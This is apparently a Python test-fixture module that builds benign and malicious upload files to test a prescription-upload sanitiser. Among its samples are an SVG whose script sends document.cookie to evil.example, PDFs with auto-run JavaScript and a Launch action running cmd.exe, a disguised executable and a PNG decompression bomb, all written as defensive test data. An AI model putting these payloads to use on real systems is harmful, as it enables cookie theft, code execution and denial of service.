"""Generators of benign and adversarial upload files, built in code.

Nothing binary is committed: each function returns fresh bytes, so other test modules
(views, tasks, end-to-end) and the benchmarks can reuse exactly the same files.
Metadata planted in the photos uses the marker strings below, so a test can assert
that none of them survives sanitisation.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import lru_cache

import pillow_heif
from PIL import ExifTags, Image, ImageChops, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter

pillow_heif.register_heif_opener()

PATIENT_NAME = "Jean Dupont"
CAMERA_MAKE = "FilesetCam"
COMMENT = f"Ordonnance de {PATIENT_NAME}"
XMP_MARKER = "fileset-xmp-marker"
GPS = {  # Paris, Pharmacie fictive
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (48.0, 51.0, 24.06),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (2.0, 21.0, 3.0),
}
PRIVATE_MARKERS = (
    PATIENT_NAME.encode(),
    CAMERA_MAKE.encode(),
    XMP_MARKER.encode(),
    b"ICC_PROFILE",
    b"Exif\x00\x00",
)


# --- building blocks ----------------------------------------------------------------------


def scene(width: int, height: int, noise: float = 40.0) -> Image.Image:
    """An RGB picture of a sheet with lines of "text", gradients and sensor-like noise.

    Flat synthetic images compress unrealistically well; the noise makes JPEG sizes and
    decode times resemble real phone photos.
    """
    gradient = Image.linear_gradient("L")
    gx = gradient.rotate(90).resize((width, height))
    gy = gradient.resize((width, height))
    base = Image.merge("RGB", (gx, gy, ImageChops.invert(gx)))
    sheet = Image.new("RGB", (width, height), (245, 245, 240))
    mask = Image.new("L", (width, height), 0)
    ImageDraw.Draw(mask).rectangle(
        (width // 8, height // 10, width * 7 // 8, height * 9 // 10), fill=255
    )
    img = Image.composite(sheet, base, mask)
    draw = ImageDraw.Draw(img)
    line_height = max(4, height // 30)
    for i, y in enumerate(range(height // 6, height * 5 // 6, line_height)):
        draw.rectangle(
            (width // 6, y, width // 6 + (width * (3 + i % 4)) // 10, y + line_height // 3),
            fill=(30, 30, 60),
        )
    if noise:
        grain = Image.effect_noise((width, height), noise).convert("RGB")
        img = Image.blend(img, grain, 0.15)
    return img


def exif_with_gps(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA_MAKE
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.Base.DateTime] = "2025:01:15 09:30:00"
    exif[ExifTags.Base.ImageDescription] = PATIENT_NAME
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = dict(GPS)
    return exif


def xmp_packet() -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="{XMP_MARKER}"/>'
        '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _save(img: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    img.save(out, fmt, **params)
    return out.getvalue()


# --- accepted images ----------------------------------------------------------------------


def jpeg_with_gps_exif() -> bytes:
    """A phone photo carrying everything that must not leak: EXIF with GPS, comment, XMP, ICC."""
    return _save(
        scene(320, 240),
        "JPEG",
        quality=90,
        exif=exif_with_gps(),
        comment=COMMENT.encode(),
        xmp=xmp_packet(),
        icc_profile=srgb_icc(),
    )


def rotated_jpeg() -> bytes:
    """Stored 300x200 sideways (left half red, right half blue) with EXIF orientation 6.

    Displayed upright it is 200x300 with red on top and blue at the bottom.
    """
    img = Image.new("RGB", (300, 200), (0, 0, 255))
    img.paste((255, 0, 0), (0, 0, 150, 200))
    return _save(img, "JPEG", quality=95, exif=exif_with_gps(orientation=6))


def phone_jpeg(width: int = 4000, height: int = 3000, orientation: int = 6) -> bytes:
    """A 12-megapixel phone-like photo (noise, EXIF orientation and GPS), for benchmarks."""
    return _save(
        scene(width, height, noise=60.0),
        "JPEG",
        quality=92,
        exif=exif_with_gps(orientation=orientation),
    )


def large_jpeg(width: int, height: int) -> bytes:
    return _save(scene(width, height), "JPEG", quality=85)


def heic_photo() -> bytes:
    """An iPhone-style HEIC (HEVC in HEIF) with GPS EXIF, encoded by pillow-heif (x265)."""
    return _save(scene(320, 240), "HEIF", quality=80, exif=exif_with_gps().tobytes())


def webp_photo() -> bytes:
    return _save(scene(320, 240), "WEBP", quality=80, exif=exif_with_gps().tobytes())


def plain_png() -> bytes:
    """A screenshot-like PNG with text chunks and an eXIf chunk that must be dropped."""
    info = PngInfo()
    info.add_text("Author", PATIENT_NAME)
    info.add_itxt("Comment", COMMENT)
    return _save(
        scene(200, 100, noise=0), "PNG", pnginfo=info, exif=exif_with_gps(), icc_profile=srgb_icc()
    )


def png_with_alpha() -> bytes:
    """RGBA with a fully transparent half, which must come out white, not black."""
    img = Image.new("RGBA", (100, 50), (0, 0, 0, 0))
    img.paste((20, 40, 200, 255), (50, 0, 100, 50))
    return _save(img, "PNG")


def palette_png() -> bytes:
    return _save(scene(120, 80, noise=0).convert("P", palette=Image.Palette.ADAPTIVE), "PNG")


def grayscale_16bit_png() -> bytes:
    img = Image.linear_gradient("L").resize((64, 64)).convert("I")
    return _save(img.point(lambda v: v * 256).convert("I;16"), "PNG")


def cmyk_jpeg() -> bytes:
    return _save(scene(160, 120).convert("CMYK"), "JPEG", quality=90)


def mpo_photo() -> bytes:
    """A multi-picture JPEG (MPO), as some Android phones and 3D cameras produce."""
    first, second = scene(160, 120), scene(160, 120, noise=10)
    return _save(first, "MPO", save_all=True, append_images=[second])


# --- refused images and non-images ------------------------------------------------------


@lru_cache(maxsize=4)
def png_decompression_bomb(side: int = 30_000) -> bytes:
    """A real side x side 1-bit PNG of zeros (~110 KB for 30000 px, 900 Mpx once decoded)."""
    row = b"\x00" * (1 + (side + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(side)]
    idat = b"".join(parts) + compressor.flush()

    def chunk(kind: bytes, payload: bytes) -> bytes:
        crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def exe_renamed_jpg() -> bytes:
    """A DOS/PE executable header, as if someone renamed setup.exe to ordonnance.jpg."""
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos += b"\x00" * (0x80 - len(dos)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
    return bytes(dos)


def html_behind_jpeg_header() -> bytes:
    return (
        b"\xff\xd8\xff\xe0" + b"<html><body><script>alert(document.cookie)</script></body></html>"
    )


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        b'<rect width="100" height="100" fill="red"/></svg>'
    )


def empty() -> bytes:
    return b""


def truncated_jpeg() -> bytes:
    """A genuine JPEG cut in the middle of its scan data (interrupted mobile upload)."""
    data = _save(scene(400, 300, noise=80), "JPEG", quality=90)
    return data[: len(data) * 6 // 10]


def oversized(max_bytes: int) -> bytes:
    """A valid JPEG padded after its end marker to exactly ``max_bytes + 1`` bytes."""
    data = _save(scene(64, 48), "JPEG")
    if len(data) > max_bytes:
        return data[: max_bytes + 1]
    return data + b"\x00" * (max_bytes + 1 - len(data))


def gif_image() -> bytes:
    return _save(scene(40, 30, noise=0), "GIF")


def bmp_image() -> bytes:
    return _save(scene(40, 30, noise=0), "BMP")


def tiff_image() -> bytes:
    return _save(scene(40, 30, noise=0), "TIFF")


def text_file() -> bytes:
    return b"Doliprane 1000 mg, 3 fois par jour.\n"


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("ordonnance.jpg", jpeg_with_gps_exif())
    return out.getvalue()


# --- PDFs -----------------------------------------------------------------------------------


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def build_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """Assemble numbered object bodies into a PDF with a correct classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def pdf_objects(pages: int = 1, catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict:
    """Objects of a plain text prescription: 1 catalog, 2 page tree, 3 font, 4 content, 5+ pages."""
    text = b"BT /F1 18 Tf 72 770 Td (Ordonnance - Dr Martin - Doliprane 1000 mg) Tj ET"
    page_numbers = list(range(5, 5 + pages))
    kids = b" ".join(b"%d 0 R" % n for n in page_numbers)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: _stream(b"", text),
    }
    for number in page_numbers:
        objects[number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R " + page_extra + b" >>"
        )
    return objects


def clean_pdf(pages: int = 1) -> bytes:
    return build_pdf(pdf_objects(pages))


def pdf_open_at_first_page() -> bytes:
    """Harmless "/OpenAction [page /XYZ null null 0]", as LibreOffice writes: accepted."""
    return build_pdf(pdf_objects(catalog_extra=b"/OpenAction [5 0 R /XYZ null null 0]"))


def pdf_with_uri_link() -> bytes:
    """A clickable link to a website (not triggered by opening): accepted."""
    objects = pdf_objects(page_extra=b"/Annots [20 0 R]")
    objects[20] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 760 400 790] "
        b"/A << /S /URI /URI (https://www.ameli.fr/) >> >>"
    )
    return build_pdf(objects)


def pdf_with_javascript() -> bytes:
    objects = pdf_objects(catalog_extra=b"/OpenAction 20 0 R")
    objects[20] = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"
    return build_pdf(objects)


def pdf_with_javascript_name_tree() -> bytes:
    objects = pdf_objects(catalog_extra=b"/Names << /JavaScript 20 0 R >>")
    objects[20] = b"<< /Names [(init) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"
    return build_pdf(objects)


def pdf_with_hex_escaped_javascript() -> bytes:
    """A link running JavaScript spelled with name escapes (/J#61vaScript, /J#53)."""
    objects = pdf_objects(page_extra=b"/Annots [20 0 R]")
    objects[20] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 760 400 790] "
        b"/A << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"
    )
    return build_pdf(objects)


def pdf_with_orphan_javascript() -> bytes:
    """A script object nothing references: only the raw-bytes scan can see it."""
    objects = pdf_objects()
    objects[20] = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    return build_pdf(objects)


def pdf_with_embedded_file() -> bytes:
    objects = pdf_objects(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(facture.exe) 20 0 R] >> >>"
    )
    objects[20] = b"<< /Type /Filespec /F (facture.exe) /EF << /F 21 0 R >> >>"
    objects[21] = _stream(b"/Type /EmbeddedFile", exe_renamed_jpg())
    return build_pdf(objects)


def pdf_with_launch() -> bytes:
    """A link annotation on the page whose action launches a program."""
    objects = pdf_objects(page_extra=b"/Annots [20 0 R]")
    objects[20] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 760 400 790] "
        b"/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>"
    )
    return build_pdf(objects)


def pdf_with_page_additional_action() -> bytes:
    """Page-level /AA that opens a URL when the page is shown (no script at all)."""
    objects = pdf_objects(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>")
    return build_pdf(objects)


def pdf_with_uri_open_action() -> bytes:
    objects = pdf_objects(catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >>")
    return build_pdf(objects)


def pdf_with_xfa() -> bytes:
    objects = pdf_objects(catalog_extra=b"/AcroForm << /Fields [] /XFA 20 0 R >>")
    objects[20] = _stream(b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    return build_pdf(objects)


def pdf_with_rich_media() -> bytes:
    objects = pdf_objects(page_extra=b"/Annots [20 0 R]")
    objects[20] = (
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
        b"/RichMediaContent << /Assets << /Names [] >> >> >>"
    )
    return build_pdf(objects)


def pdf_with_javascript_in_object_stream() -> bytes:
    """Catalog and script inside a compressed object stream, with an xref stream (PDF 1.5).

    The raw bytes contain no readable "/JavaScript": only the structural walk finds it.
    """
    compressed = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        6: b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
    }
    plain = {k: v for k, v in pdf_objects().items() if k not in compressed}
    objstm_number, xref_number = 7, 8

    header, body = [], b""
    for number, content in compressed.items():
        header.append(b"%d %d" % (number, len(body)))
        body += content + b" "
    header_bytes = b" ".join(header) + b" "
    packed = zlib.compress(header_bytes + body)

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    for number in sorted(plain):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    entries[objstm_number] = (1, len(out), 0)
    out += b"%d 0 obj\n" % objstm_number
    out += _stream(
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode"
        % (len(compressed), len(header_bytes)),
        packed,
    )
    out += b"\nendobj\n"
    for index, number in enumerate(compressed):
        entries[number] = (2, objstm_number, index)
    xref_offset = len(out)
    entries[xref_number] = (1, xref_offset, 0)
    size = xref_number + 1
    table = b"".join(struct.pack(">BIH", *entries[n]) for n in range(size))
    out += b"%d 0 obj\n" % xref_number
    out += _stream(b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size, table)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(clean_pdf()))
    writer.encrypt(user_password="1234", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    return clean_pdf()[:40]


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + b"\x00\x13garbage" * 50
